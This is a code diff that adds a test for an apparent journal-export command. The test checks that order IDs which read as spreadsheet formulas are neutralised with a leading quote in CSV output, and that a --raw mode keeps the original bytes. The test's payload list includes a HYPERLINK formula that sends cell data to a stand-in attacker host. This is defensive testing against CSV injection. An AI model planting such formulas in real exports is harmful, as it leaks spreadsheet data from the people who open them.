@@ -81,6 +81,22 @@ def test_journal_export(config_path, api):
     assert "auth_token" not in out.stdout
 
 
+HOSTILE_ORDERS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+SUM(1+1)", "-1+2", "@cmd"]
+
+
+def test_journal_export_guards_formulas_and_raw_gives_the_bytes(config_path, api):
+    """operating.md hands this export to finance: an order id that reads as a formula must not
+    run in their spreadsheet (as the console's CSVs guard it); --raw is for machines."""
+    for order_id in HOSTILE_ORDERS:
+        assert api.redeem("U1000", order_id, 1).status_code == 200, order_id
+    out = run("journal", "export", "--config", str(config_path))
+    rows = list(csv.DictReader(io.StringIO(out.stdout)))
+    assert [r["order_id"] for r in rows] == ["'" + o for o in HOSTILE_ORDERS]
+    assert all(not value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())
+    raw = run("journal", "export", "--raw", "--config", str(config_path))
+    assert [r["order_id"] for r in csv.DictReader(io.StringIO(raw.stdout))] == HOSTILE_ORDERS
+
+
 def test_journal_export_date_window(config_path, api):
     assert api.redeem("U1000", "O-1", 1).status_code == 200
     today = run(
